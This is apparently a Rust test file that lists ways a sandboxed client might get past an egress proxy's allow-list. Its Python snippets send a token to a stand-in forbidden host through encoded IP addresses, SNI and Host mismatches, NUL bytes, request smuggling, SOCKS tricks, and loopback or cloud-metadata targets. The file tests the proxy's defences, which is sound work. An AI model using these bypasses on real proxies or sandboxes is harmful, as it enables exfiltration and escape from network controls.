//! Ways around a policy that only a proxy has: what clients ask of it, and what they say afterwards.

use super::table::{BOTH, Control, EVIL_ADDRESS, FULL, GOOD, Policy, Way, way};
use Control::{Code, OutsideCode, Under};
use Policy::Allow;

/// Asks for the forbidden host as a client does that may.
const EVIL_TLS: Control =
    Code("shown(connect('evil.example.com:443', hello('evil.example.com', session=b'@token@')))", BOTH);
const EVIL_HTTP: Control = Code("shown(get('evil.example.com', path='/@token@'))", BOTH);
const EVIL_RAW: Control = Code("shown(connect('@evil@:80', b'GET /@token@ HTTP/1.1\\r\\n\\r\\n'))", EVIL_ADDRESS);
const SOCKS_WORKS: Control = Code("print('REACHED' if socks('@evil@', 80)[1] == 0 else '')", FULL);
const DAEMON: Control = OutsideCode(
    "print('REACHED' if b'HTTP' in talk('127.0.0.1', @daemon_port@, b'GET / HTTP/1.0\\r\\n\\r\\n') else '')",
);

pub fn ways() -> Vec<Way> {
    [connect(), urls(), socks(), places()].concat()
}

fn connect() -> Vec<Way> {
    vec![
        way(
            "CONNECT to an address with an allowed server name",
            GOOD,
            "shown(connect('@evil@:443', hello('good.example.com', session=b'@token@')))",
            Under(Allow(&["@evil@:443"])),
        ),
        way(
            "CONNECT to an address in IPv6",
            GOOD,
            "shown(connect('[::ffff:@evil@]:80', b'GET /@token@ HTTP/1.1\\r\\nHost: good.example.com\\r\\n\\r\\n'))",
            Under(EVIL_ADDRESS),
        ),
        way(
            "CONNECT to a decimal address",
            FULL,
            "shown(connect(str(int.from_bytes(socket.inet_aton('@evil@'), 'big')) + ':80', b'GET /@token@ HTTP/1.1\\r\\n\\r\\n'))",
            EVIL_RAW,
        ),
        way(
            "CONNECT to an octal address",
            FULL,
            "shown(connect('.'.join('0%o' % int(n) for n in '@evil@'.split('.')) + ':80', b'GET /@token@ HTTP/1.1\\r\\n\\r\\n'))",
            EVIL_RAW,
        ),
        way(
            "CONNECT to a hexadecimal address",
            FULL,
            "shown(connect('0x' + socket.inet_aton('@evil@').hex() + ':80', b'GET /@token@ HTTP/1.1\\r\\n\\r\\n'))",
            EVIL_RAW,
        ),
        way(
            "CONNECT to a forbidden name",
            GOOD,
            "shown(connect('evil.example.com:443', hello('good.example.com', session=b'@token@')))",
            EVIL_TLS,
        ),
        way(
            "CONNECT to a forbidden name in upper case with a dot",
            GOOD,
            "shown(connect('EVIL.Example.com.:443', hello('evil.example.com', session=b'@token@')))",
            Under(BOTH),
        ),
        way(
            "CONNECT to a port that no rule has",
            GOOD,
            "shown(connect('good.example.com:22', b'@token@'))",
            Under(Allow(&["good.example.com:22"])),
        ),
        way(
            "CONNECT, then another server name",
            GOOD,
            "shown(connect('good.example.com:443', hello('evil.example.com', session=b'@token@')))",
            Under(BOTH),
        ),
        way(
            "CONNECT, then no server name",
            GOOD,
            "shown(connect('good.example.com:443', hello(None, session=b'@token@')))",
            Under(Allow(&["good.example.com:443"])),
        ),
        way(
            "CONNECT, then another Host",
            GOOD,
            "shown(connect('good.example.com:80', b'GET /@token@ HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n'))",
            Under(BOTH),
        ),
        way(
            "CONNECT, then CONNECT",
            GOOD,
            "shown(connect('good.example.com:80', b'CONNECT evil.example.com:443 HTTP/1.1\\r\\nHost: evil.example.com:443\\r\\nX: @token@\\r\\n\\r\\n'))",
            Under(FULL),
        ),
        way(
            "CONNECT with another Host",
            GOOD,
            "shown(send_to_proxy(b'CONNECT evil.example.com:443 HTTP/1.1\\r\\nHost: good.example.com:443\\r\\n\\r\\n' + hello('good.example.com', session=b'@token@')))",
            EVIL_TLS,
        ),
        way(
            "CONNECT with a user name",
            GOOD,
            "shown(connect('good.example.com@evil.example.com:443', hello('good.example.com', session=b'@token@')))",
            EVIL_TLS,
        ),
        way(
            "CONNECT with NUL",
            GOOD,
            "shown(connect('good.example.com\\0.evil.example.com:443', hello('good.example.com', session=b'@token@')))",
            EVIL_TLS,
        ),
        way(
            "CONNECT that stops halfway",
            BOTH,
            "c = to_proxy(); c.sendall(b'CONNECT evil.example.com:443 HTTP/1.1\\r\\nX: @token@\\r\\n'); c.shutdown(socket.SHUT_WR); shown(all_of(c))",
            EVIL_TLS,
        ),
    ]
}

/// Requests for whole URLs.
fn urls() -> Vec<Way> {
    vec![
        way(
            "a URL with an allowed Host",
            GOOD,
            "shown(send_to_proxy(b'GET http://evil.example.com/@token@ HTTP/1.1\\r\\nHost: good.example.com\\r\\n\\r\\n'))",
            Under(BOTH),
        ),
        way(
            "a URL of an address with an allowed Host",
            GOOD,
            "shown(send_to_proxy(b'GET http://@evil@/@token@ HTTP/1.1\\r\\nHost: good.example.com\\r\\n\\r\\n'))",
            Under(EVIL_ADDRESS),
        ),
        way(
            "a URL with a user name",
            GOOD,
            "shown(send_to_proxy(b'GET http://good.example.com@evil.example.com/@token@ HTTP/1.1\\r\\nHost: good.example.com\\r\\n\\r\\n'))",
            EVIL_HTTP,
        ),
        way(
            "a second URL on the connection",
            BOTH,
            "c = to_proxy(); c.sendall(b'GET http://good.example.com/ HTTP/1.1\\r\\nHost: good.example.com\\r\\n\\r\\n'); some_of(c)
try: c.sendall(b'GET http://evil.example.com/@token@ HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n'); shown(all_of(c))
except OSError as error: print(error)",
            EVIL_HTTP,
        ),
        way(
            "a pipelined URL of a forbidden host",
            GOOD,
            "shown(send_to_proxy(b'GET http://good.example.com/ HTTP/1.1\\r\\nHost: good.example.com\\r\\n\\r\\nGET http://evil.example.com/@token@ HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n'))",
            EVIL_HTTP,
        ),
        way(
            "a request behind the body of another",
            GOOD,
            "shown(send_to_proxy(b'POST http://good.example.com/ HTTP/1.1\\r\\nHost: good.example.com\\r\\nContent-Length: 5\\r\\n\\r\\nhelloGET /@token@ HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n'))",
            Code(
                "shown(send_to_proxy(b'POST http://good.example.com/ HTTP/1.1\\r\\nHost: good.example.com\\r\\nContent-Length: 16\\r\\n\\r\\nhello@token@x'))",
                GOOD,
            ),
        ),
        way(
            "a length and chunks",
            GOOD,
            "shown(send_to_proxy(b'POST http://good.example.com/ HTTP/1.1\\r\\nHost: good.example.com\\r\\nContent-Length: 99\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /@token@ HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n'))",
            Code(
                "shown(send_to_proxy(b'POST http://good.example.com/ HTTP/1.1\\r\\nHost: good.example.com\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\na\\r\\n@token@\\r\\n0\\r\\n\\r\\n'))",
                GOOD,
            ),
        ),
        way(
            "a length that Connection names",
            GOOD,
            "shown(send_to_proxy(b'POST http://good.example.com/ HTTP/1.1\\r\\nHost: good.example.com\\r\\nConnection: Content-Length\\r\\nContent-Length: 0\\r\\n\\r\\nGET /@token@ HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n'))",
            EVIL_HTTP,
        ),
        way(
            "a head that is too long",
            GOOD,
            "shown(send_to_proxy(b'GET http://good.example.com/@token@ HTTP/1.1\\r\\nHost: good.example.com\\r\\nX: ' + b'y' * 40000 + b'\\r\\n\\r\\n'))",
            Code(
                "shown(send_to_proxy(b'GET http://good.example.com/@token@ HTTP/1.1\\r\\nHost: good.example.com\\r\\nX: ' + b'y' * 9000 + b'\\r\\n\\r\\n'))",
                GOOD,
            ),
        ),
        way(
            "a URL of another protocol",
            BOTH,
            "shown(send_to_proxy(b'GET ftp://evil.example.com/@token@ HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n')); shown(send_to_proxy(b'GET https://evil.example.com/@token@ HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n'))",
            EVIL_HTTP,
        ),
        way(
            "a request without a URL",
            BOTH,
            "shown(send_to_proxy(b'GET /@token@ HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n'))",
            EVIL_HTTP,
        ),
    ]
}

fn socks() -> Vec<Way> {
    /// The code of a way, with the function in front of it.
    macro_rules! with_request {
        ($code:literal) => {
            concat!(
                "def request(rest, data=b''):
    c = to_proxy(); c.sendall(b'\\x05\\x01\\0'); exactly(c, 2); c.sendall(b'\\x05' + rest + data); c.shutdown(socket.SHUT_WR); return all_of(c)\n",
                $code
            )
        };
    }
    vec![
        way(
            "SOCKS for UDP",
            FULL,
            "print('REACHED' if socks('@evil@', 9999, command=3)[1] == 0 else 'refused')",
            SOCKS_WORKS,
        ),
        way(
            "SOCKS to listen",
            FULL,
            "print('REACHED' if socks('@evil@', 80, command=2)[1] == 0 else 'refused')",
            SOCKS_WORKS,
        ),
        way(
            "SOCKS 4",
            FULL,
            "shown(send_to_proxy(b'\\x04\\x01\\0\\x50' + socket.inet_aton('@evil@') + b'\\0GET /@token@ HTTP/1.1\\r\\n\\r\\n'))",
            SOCKS_WORKS,
        ),
        way(
            "SOCKS with an address as a name",
            GOOD,
            with_request!(
                "shown(request(b'\\x01\\0\\x03' + bytes([len('@evil@')]) + b'@evil@\\0\\x50', b'GET /@token@ HTTP/1.1\\r\\nHost: good.example.com\\r\\n\\r\\n'))"
            ),
            Under(EVIL_ADDRESS),
        ),
        way(
            "SOCKS with an IPv6 address",
            GOOD,
            with_request!(
                "shown(request(b'\\x01\\0\\x04' + b'\\0' * 10 + b'\\xff\\xff' + socket.inet_aton('@evil@') + b'\\0\\x50', b'GET /@token@ HTTP/1.1\\r\\nHost: good.example.com\\r\\n\\r\\n'))"
            ),
            Under(EVIL_ADDRESS),
        ),
        way(
            "SOCKS with NUL in a name",
            FULL,
            with_request!(
                "n = b'evil.example.com\\0.good.example.com'; shown(request(b'\\x01\\0\\x03' + bytes([len(n)]) + n + b'\\0\\x50', b'GET /@token@ HTTP/1.1\\r\\n\\r\\n'))"
            ),
            SOCKS_WORKS,
        ),
        way(
            "SOCKS with a short address as a name",
            FULL,
            with_request!(
                "n = b'127.1'; print('REACHED' if request(b'\\x01\\0\\x03' + bytes([len(n)]) + n + struct.pack('>H', @daemon_port@))[1] == 0 else '')"
            ),
            SOCKS_WORKS,
        ),
        way(
            "SOCKS with an unknown type of address",
            FULL,
            with_request!(
                "print('REACHED' if request(b'\\x01\\0\\x02' + socket.inet_aton('@evil@') + b'\\0\\x50')[1] == 0 else '')"
            ),
            SOCKS_WORKS,
        ),
        way(
            "SOCKS to an allowed name, then another server name",
            GOOD,
            "shown(send('good.example.com', 443, hello('evil.example.com', session=b'@token@')))",
            Under(BOTH),
        ),
    ]
}

/// The host itself, which the daemon could dial and the sandbox must not.
fn places() -> Vec<Way> {
    vec![
        way(
            "the daemon by CONNECT",
            FULL,
            "for host in ['127.0.0.1', 'localhost', '[::1]', '0.0.0.0', '[::]', '127.1', '[::ffff:127.0.0.1]', '@host@', 'loop.example.com', 'own.example.com']:
    if b' 200 ' in connect(f'{host}:@daemon_port@')[:20]: print('REACHED', host)",
            DAEMON,
        ),
        way(
            "the daemon by a URL",
            FULL,
            "for host in ['127.0.0.1', 'localhost', '[::1]', '0.0.0.0', '@host@', 'loop.example.com', 'own.example.com']:
    answer = send_to_proxy(f'GET http://{host}:@daemon_port@/healthz HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'.encode())
    if b'403' not in answer[:20]: print('REACHED', host, answer)",
            DAEMON,
        ),
        way(
            "the daemon by a rule for its address",
            Allow(&["@host@/32:@daemon_port@"]),
            "print('REACHED' if socks('@host@', @daemon_port@)[1] != 2 else '')",
            DAEMON,
        ),
        way(
            "the metadata service by a URL",
            Allow(&["0.0.0.0/0:80"]),
            "print('REACHED' if b'403' not in send_to_proxy(b'GET http://169.254.169.254/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')[:20] else '')",
            Code("print('REACHED' if b'hello' in get('@evil@') else '')", Allow(&["0.0.0.0/0:80"])),
        ),
        way(
            "the proxy through the proxy",
            FULL,
            "print('REACHED' if b' 200 ' in connect(f'127.0.0.1:{PROXY}')[:20] else '')",
            Code("print('REACHED' if b' 200 ' in connect('@evil@:80')[:20] else '')", FULL),
        ),
        way(
            "a server in the sandbox through the proxy",
            FULL,
            "s = socket.create_server(('127.0.0.1', 4322)); print('REACHED' if socks('127.0.0.1', 4322)[1] == 0 else '')",
            SOCKS_WORKS,
        ),
    ]
}
